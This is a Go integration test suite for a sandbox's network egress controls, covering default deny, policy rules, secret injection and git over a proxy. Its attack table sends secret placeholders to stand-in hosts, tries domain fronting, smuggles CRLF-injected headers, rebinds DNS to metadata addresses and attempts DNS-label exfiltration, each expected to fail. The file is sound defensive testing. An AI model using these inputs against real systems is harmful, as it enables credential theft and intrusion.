package test

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/paddock-dev/paddock/api"
	"github.com/paddock-dev/paddock/client"
)

// egressNames are the upstream's DNS names.
var egressNames = map[string]string{
	"allowed.test":     "",
	"other.test":       "",
	"wild.test":        "",
	"a.wild.test":      "",
	"deep.a.wild.test": "",
	"rebind.test":      "127.0.0.1",
	"metadata.test":    "169.254.169.254",
	"exfil.test":       "",
	"*.exfil.test":     "",
}

// egressSandbox creates a sandbox with a policy and the upstream's CA at
// /tmp/upstream-ca.pem (for clients that verify a spliced connection
// themselves).
func egressSandbox(t *testing.T, d *Daemon, u *upstream, p *api.Policy) string {
	t.Helper()
	return egressSandboxOn(t, d, u, p, "")
}

// egressSandboxOn is egressSandbox on a runtime tier ("": the daemon's).
func egressSandboxOn(t *testing.T, d *Daemon, u *upstream, p *api.Policy, tier string) string {
	t.Helper()
	id := d.Create(api.CreateRequest{Policy: p, Runtime: tier})
	ca, err := os.ReadFile(u.CAFile)
	if err != nil {
		t.Fatal(err)
	}
	if r := d.run(id, string(ca), "sh", "-c", "cat > /tmp/upstream-ca.pem"); r.ExitCode != 0 {
		t.Fatal(r)
	}
	return id
}

// curl runs curl in a sandbox and returns its output and exit code.
func curl(d *Daemon, id string, args ...string) execResult {
	d.t.Helper()
	return d.run(id, "", append([]string{"curl", "-sS", "--max-time", "5", "--noproxy", "*"}, args...)...)
}

func mustSay(t *testing.T, r execResult, want string) {
	t.Helper()
	if r.ExitCode != 0 || !strings.Contains(r.Stdout, want) {
		t.Fatalf("want %q: %s", want, r)
	}
}

func mustFail(t *testing.T, r execResult, why string) {
	t.Helper()
	if r.ExitCode == 0 {
		t.Fatalf("%s: succeeded: %s", why, r)
	}
}

// TestEgressDefaultDeny: with no policy a sandbox reaches nothing: not a
// host it could name, not the host, not the metadata address, not
// another sandbox, not UDP, not IPv6; names do not resolve; refusals are
// immediate and the agent can read why. On both tiers.
func TestEgressDefaultDeny(t *testing.T) {
	t.Parallel()
	u := newUpstream(t, egressNames)
	var extra []string
	if p := findRunsc(); p != "" {
		extra = []string{"--runsc", p}
	}
	d := netDaemon(t, u, extra...)
	if err := os.Chmod(d.Root, 0o711); err != nil {
		t.Fatal(err)
	}
	forTiers(t, func(t *testing.T, tier string) { defaultDeny(t, d, u, tier) })
}

func defaultDeny(t *testing.T, d *Daemon, u *upstream, tier string) {
	id := egressSandboxOn(t, d, u, nil, tier)
	other := egressSandboxOn(t, d, u, &api.Policy{Presets: []string{"internet"}}, tier)
	otherAddr := strings.TrimSpace(d.Sh(other, "ip -4 -o addr show eth0 2>/dev/null | awk '{print $4}' | cut -d/ -f1 || true"))
	if otherAddr == "" {
		otherAddr = strings.TrimSpace(d.Sh(other, `python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("10.0.0.1", 9)); print(s.getsockname()[0])'`))
	}
	hostAddr := strings.TrimSpace(d.Sh(id, "awk '/paddock.internal/ {print $1}' /etc/hosts"))

	start := time.Now()
	for _, target := range []string{
		"http://" + u.IP + "/",           // a direct IP
		"https://" + u.IP + "/",          // TLS to a direct IP
		"http://169.254.169.254/latest/", // cloud metadata
		"http://" + hostAddr + ":22/",    // the host
		"http://" + otherAddr + ":80/",   // another sandbox
		"http://10.0.0.1/",               // a private range
	} {
		mustFail(t, curl(d, id, target), "default deny of "+target)
	}
	if el := time.Since(start); el > 20*time.Second {
		t.Errorf("six refused connects took %s: refusals should be immediate", el)
	}
	// Names the policy does not allow do not resolve; the resolver was
	// asked, upstream was not.
	r := d.sh(id, "getent hosts allowed.test")
	mustFail(t, r, "resolving a name with no policy")
	for _, q := range u.dnsQueries() {
		if q == "allowed.test" {
			t.Fatalf("the upstream DNS was asked for a denied name")
		}
	}
	// Raw TCP, UDP and IPv6.
	py := `
import socket, sys
res = []
try:
    s = socket.create_connection((sys.argv[1], 7000), timeout=3); s.sendall(b"x"); got = s.recv(1); res.append("tcp-open:%r" % got)
except Exception as e: res.append("tcp-refused")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
try:
    u.sendto(b"ping", (sys.argv[1], 9999)); u.recvfrom(100); res.append("udp-open")
except Exception as e: res.append("udp-blocked")
try:
    s6 = socket.create_connection(("2001:db8::1", 80), timeout=2); res.append("v6-open")
except Exception as e: res.append("v6-blocked")
print(" ".join(res))
`
	if got := d.py(id, py, u.IP); strings.TrimSpace(got.Stdout) != "tcp-refused udp-blocked v6-blocked" {
		t.Fatalf("raw sockets: %s", got)
	}
	time.Sleep(200 * time.Millisecond)
	u.mu.Lock()
	udp := u.udpSeen
	u.mu.Unlock()
	if udp != 0 {
		t.Fatalf("a UDP packet reached the upstream")
	}
	if n := len(u.requests()); n != 0 {
		t.Fatalf("%d requests reached the upstream", n)
	}
	// The agent can read why, from a file and from the self endpoint.
	if !waitFor(5*time.Second, 100*time.Millisecond, func() bool {
		return strings.Contains(d.Sh(id, "cat /run/paddock/denials.json"), u.IP)
	}) {
		t.Fatalf("denials.json does not name %s: %s", u.IP, d.Sh(id, "cat /run/paddock/denials.json"))
	}
	self := curl(d, id, "http://paddock.internal/v1/self")
	var v struct {
		Sandbox string `json:"sandbox"`
		Denials []struct {
			IP, Reason, Suggest string
		} `json:"denials"`
	}
	if err := json.Unmarshal([]byte(self.Stdout), &v); err != nil || v.Sandbox != id || len(v.Denials) == 0 {
		t.Fatalf("self endpoint: %v %s", err, self)
	}
	// The other sandbox sees itself, not this one.
	if got := curl(d, other, "http://paddock.internal/v1/self"); !strings.Contains(got.Stdout, `"sandbox": "`+other+`"`) || strings.Contains(got.Stdout, id) {
		t.Fatalf("another sandbox's self view: %s", got)
	}
}

// TestEgressRules: every kind of rule, allowed and denied, through real
// clients: domains and wildcards (TLS spliced, checked by the client
// against the upstream's CA), URL path and method rules (TLS intercepted
// with the sandbox's own CA, which its trust store holds), deny over
// allow, IP:port rules for raw TCP, and a policy replaced at run time.
// On both tiers.
func TestEgressRules(t *testing.T) {
	t.Parallel()
	u := newUpstream(t, egressNames)
	var extra []string
	if p := findRunsc(); p != "" {
		extra = []string{"--runsc", p}
	}
	d := netDaemon(t, u, extra...)
	forTiers(t, func(t *testing.T, tier string) { egressRules(t, d, u, tier) })
}

func egressRules(t *testing.T, d *Daemon, u *upstream, tier string) {
	p := &api.Policy{
		Allow: []api.PolicyRule{
			{Match: "allowed.test"},
			{Match: "*.wild.test"},
			{Match: "https://other.test/api/", Methods: []string{"GET"}},
			{Match: u.IP + ":7000"},
		},
		Deny: []api.PolicyRule{{Match: "https://other.test/api/admin/"}},
	}
	id := egressSandboxOn(t, d, u, p, tier)

	// Domain rules: TLS spliced, the sandbox sees the upstream's certificate.
	mustSay(t, curl(d, id, "--cacert", "/tmp/upstream-ca.pem", "https://allowed.test/x"), "hello from allowed.test GET /x")
	mustSay(t, curl(d, id, "http://allowed.test/plain"), "hello from allowed.test GET /plain")
	mustSay(t, curl(d, id, "--cacert", "/tmp/upstream-ca.pem", "https://a.wild.test/"), "hello from a.wild.test")
	mustSay(t, curl(d, id, "--cacert", "/tmp/upstream-ca.pem", "https://deep.a.wild.test/"), "hello from deep.a.wild.test")
	mustFail(t, curl(d, id, "--cacert", "/tmp/upstream-ca.pem", "https://wild.test/"), "*.wild.test must not match the apex")

	// URL rules: intercepted; the sandbox's default trust store holds its CA.
	mustSay(t, curl(d, id, "https://other.test/api/items"), "hello from other.test GET /api/items")
	r := curl(d, id, "-X", "POST", "https://other.test/api/items")
	if !strings.Contains(r.Stdout, "https://other.test/api/") && !strings.Contains(r.Stdout+r.Stderr, "403") {
		t.Fatalf("POST outside the methods: %s", r)
	}
	r = curl(d, id, "-o", "/dev/null", "-w", "%{http_code}", "https://other.test/elsewhere")
	if strings.TrimSpace(r.Stdout) != "403" {
		t.Fatalf("a path outside the rule: %s", r)
	}
	body := curl(d, id, "https://other.test/elsewhere").Stdout
	if !strings.Contains(body, "--allow") {
		t.Fatalf("a 403 should name the rule to add: %q", body)
	}
	r = curl(d, id, "-o", "/dev/null", "-w", "%{http_code}", "https://other.test/api/admin/users")
	if strings.TrimSpace(r.Stdout) != "403" {
		t.Fatalf("deny must win over allow: %s", r)
	}
	// python and git are real clients too.
	if got := d.py(id, `import urllib.request; print(urllib.request.urlopen("https://other.test/api/py").read().decode())`); !strings.Contains(got.Stdout, "GET /api/py") {
		t.Fatalf("python through the intercepting proxy: %s", got)
	}

	// Raw TCP by IP and port.
	echo := `
import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3)
s.sendall(b"ping"); print(s.recv(4).decode())
`
	if got := d.py(id, echo, u.IP, "7000"); strings.TrimSpace(got.Stdout) != "ping" {
		t.Fatalf("allowed raw TCP: %s", got)
	}
	mustFail(t, d.py(id, echo, u.IP, "7001"), "raw TCP to a port the rule does not name")

	// Replace the policy at run time: new connections follow it.
	c := d.Client()
	ctx := context.Background()
	mustFail(t, curl(d, id, "http://exfil.test/"), "not yet allowed")
	if _, err := c.SetPolicy(ctx, id, api.Policy{Allow: []api.PolicyRule{{Match: "exfil.test"}}}); err != nil {
		t.Fatal(err)
	}
	mustSay(t, curl(d, id, "http://exfil.test/now"), "hello from exfil.test GET /now")
	mustFail(t, curl(d, id, "http://allowed.test/"), "allowed.test after the policy dropped it")
	if got := d.MustCLI("policy", "get", id); !strings.Contains(got, "exfil.test") {
		t.Fatalf("policy get: %s", got)
	}
	// CLI syntax, and validation naming the bad entry.
	d.MustCLI("policy", "set", id, "--allow", "https://allowed.test/v1/", "--method", "GET", "--deny", "10.0.0.0/8")
	if r := d.CLI("policy", "set", id, "--allow", "*."); r.Code == 0 || !strings.Contains(r.Stderr, "allow[0]") {
		t.Fatalf("bad rule: exit %d %s", r.Code, r.Stderr)
	}
	if _, err := c.Create(ctx, api.CreateRequest{Policy: &api.Policy{Allow: []api.PolicyRule{{Match: "https://x.test/[("}}, Presets: []string{"nope"}}}); !errors.Is(err, client.ErrInvalid) {
		t.Fatalf("create with a bad policy: %v", err)
	}
}

// TestEgressAttacks: the attack table. Each attempt fails and is logged.
// On both tiers.
func TestEgressAttacks(t *testing.T) {
	t.Parallel()
	u := newUpstream(t, egressNames)
	var extra []string
	if p := findRunsc(); p != "" {
		extra = []string{"--runsc", p}
	}
	d := netDaemon(t, u, extra...)
	c := d.Client()
	ctx := context.Background()
	const secret = "s3cr3t-value-9f8e7d"
	if r := d.CLIInput(secret+"\n", "secret", "create", "API_TOKEN"); r.Code != 0 {
		t.Fatalf("secret create: %s", r.Stderr)
	}
	if got := d.MustCLI("secret", "ls"); strings.TrimSpace(got) != "API_TOKEN" {
		t.Fatalf("secret ls: %q", got)
	}
	forTiers(t, func(t *testing.T, tier string) { egressAttacks(t, d, u, tier, secret) })
	// A secret bound to an unknown name is refused at create.
	if _, err := c.Create(ctx, api.CreateRequest{Policy: &api.Policy{Secrets: []api.SecretBinding{{Name: "NOPE", Hosts: []string{"a.test"}, Inject: api.SecretInjection{Header: "X", Format: "%s"}}}}}); !errors.Is(err, client.ErrInvalid) {
		t.Fatalf("binding an unknown secret: %v", err)
	}
	d.MustCLI("secret", "rm", "API_TOKEN")
}

// egressAttacks runs the attack table from a sandbox on tier; the
// upstream's log is read from its length at the start on.
func egressAttacks(t *testing.T, d *Daemon, u *upstream, tier, secret string) {
	seen := len(u.requests())
	requests := func() []*http.Request { return u.requests()[seen:] }
	p := &api.Policy{
		// other.test is a URL rule, so its TLS is intercepted and a
		// placeholder in it is seen. (Over a host allowed by a domain rule
		// TLS is spliced unread: a placeholder there cannot be seen, and is
		// harmless, since the value is only ever put in within scope.)
		Allow: []api.PolicyRule{{Match: "https://allowed.test/"}, {Match: "rebind.test"}, {Match: "metadata.test"}, {Match: "https://other.test/"}, {Match: "http://other.test/"}},
		Secrets: []api.SecretBinding{{Name: "API_TOKEN", Hosts: []string{"allowed.test"}, Paths: []string{"/echo"},
			Inject: api.SecretInjection{Header: "Authorization", Format: "Bearer %s"}}},
	}
	id := egressSandboxOn(t, d, u, p, tier)

	// The sandbox holds a placeholder, never the value.
	ph := strings.TrimSpace(d.Sh(id, "echo $PADDOCK_SECRET_API_TOKEN"))
	if ph == "" || strings.Contains(ph, secret) {
		t.Fatalf("placeholder %q", ph)
	}
	if r := d.sh(id, "grep -r -s -l "+secret+" /etc /run /workspace /root /tmp; env | grep -c "+secret); strings.Contains(r.Stdout, "/") || strings.TrimSpace(r.Stdout) != "0" {
		t.Fatalf("the secret's value is visible in the sandbox: %s", r)
	}
	// In scope: injected upstream, scrubbed from the echo.
	r := curl(d, id, "https://allowed.test/echo")
	if r.ExitCode != 0 || strings.Contains(r.Stdout, secret) {
		t.Fatalf("injected request: %s", r)
	}
	got := false
	for _, q := range requests() {
		if q.URL.Path == "/echo" && q.Header.Get("Authorization") == "Bearer "+secret {
			got = true
		}
	}
	if !got {
		t.Fatal("the upstream did not get the injected secret")
	}
	// Placeholder to a wrong host, a wrong path, in a query or body:
	// refused.
	for _, args := range [][]string{
		{"-H", "Authorization: Bearer " + ph, "https://other.test/steal"},
		{"https://allowed.test/other?t=" + ph},
		{"-d", "token=" + ph, "https://allowed.test/upload"},
		{"-H", "X-Leak: " + ph, "http://other.test/plain"},
	} {
		r := curl(d, id, append([]string{"-o", "/dev/null", "-w", "%{http_code}", "--cacert", "/tmp/upstream-ca.pem"}, args...)...)
		if strings.TrimSpace(r.Stdout) == "200" {
			t.Errorf("placeholder sent out of scope with %v: %s", args, r)
		}
	}
	for _, q := range requests() {
		for _, vs := range q.Header {
			for _, v := range vs {
				if strings.Contains(v, ph) {
					t.Errorf("a placeholder reached the upstream at %s", q.URL.Path)
				}
				if strings.Contains(v, secret) && q.URL.Path != "/echo" {
					t.Errorf("the secret reached the upstream out of scope, at %s", q.URL.Path)
				}
			}
		}
		if strings.Contains(q.URL.RawQuery, ph) || strings.Contains(q.URL.RawQuery, secret) {
			t.Errorf("a placeholder or the secret reached the upstream in a query")
		}
	}
	// Domain fronting: an allowed SNI, another Host.
	r = curl(d, id, "-o", "/dev/null", "-w", "%{http_code}", "-H", "Host: evil.test", "https://allowed.test/front")
	if strings.TrimSpace(r.Stdout) == "200" {
		t.Fatalf("domain fronting got through: %s", r)
	}
	// Header smuggling around the injection.
	curl(d, id, "-o", "/dev/null", "https://allowed.test/echo?x=%0d%0aAuthorization:%20stolen")
	for _, q := range requests() {
		if len(q.Header.Values("Authorization")) > 1 {
			t.Fatalf("a smuggled second Authorization header reached the upstream")
		}
	}
	// DNS rebinding to loopback and to the metadata address.
	mustFail(t, curl(d, id, "--cacert", "/tmp/upstream-ca.pem", "https://rebind.test/"), "rebinding to loopback")
	mustFail(t, curl(d, id, "http://metadata.test/latest/meta-data"), "rebinding to metadata")
	// DNS exfiltration through long labels in a denied zone.
	label := strings.Repeat("deadbeef", 7)
	mustFail(t, d.sh(id, "getent hosts "+label+"."+label+".exfil.test"), "exfiltration lookup")
	for _, q := range u.dnsQueries() {
		if strings.Contains(q, label) {
			t.Fatalf("an exfiltration query reached upstream DNS: %s", q)
		}
	}
	// The denials are logged with reasons the agent can read.
	var denials string
	waitFor(5*time.Second, 100*time.Millisecond, func() bool {
		denials = d.Sh(id, "cat /run/paddock/denials.json")
		return strings.Contains(denials, "rebind") || strings.Contains(denials, "127.0.0.1")
	})
	for _, want := range []string{"other.test", "evil.test"} {
		if !strings.Contains(denials, want) {
			t.Errorf("denials.json lacks %s:\n%s", want, denials)
		}
	}
}

// TestEgressGit: git clones over HTTPS through the intercepting proxy
// with its default trust store.
func TestEgressGit(t *testing.T) {
	t.Parallel()
	u := newUpstream(t, egressNames)
	repo := filepath.Join(u.filesDir, "repo.git")
	work := t.TempDir()
	for _, args := range [][]string{
		{"init", "-q", work},
		{"-C", work, "-c", "user.email=t@t", "-c", "user.name=t", "commit", "-q", "--allow-empty", "-m", "first"},
		{"clone", "-q", "--bare", work, repo},
		{"-C", repo, "update-server-info"},
	} {
		if out, err := exec.Command("git", args...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	d := netDaemon(t, u)
	id := egressSandbox(t, d, u, &api.Policy{Allow: []api.PolicyRule{{Match: "https://allowed.test/files/", Methods: []string{"GET"}}}})
	if r := d.sh(id, "cd /tmp && git clone -q https://allowed.test/files/repo.git && git -C repo log --oneline"); r.ExitCode != 0 || !strings.Contains(r.Stdout, "first") {
		t.Fatalf("git clone: %s", r)
	}
}
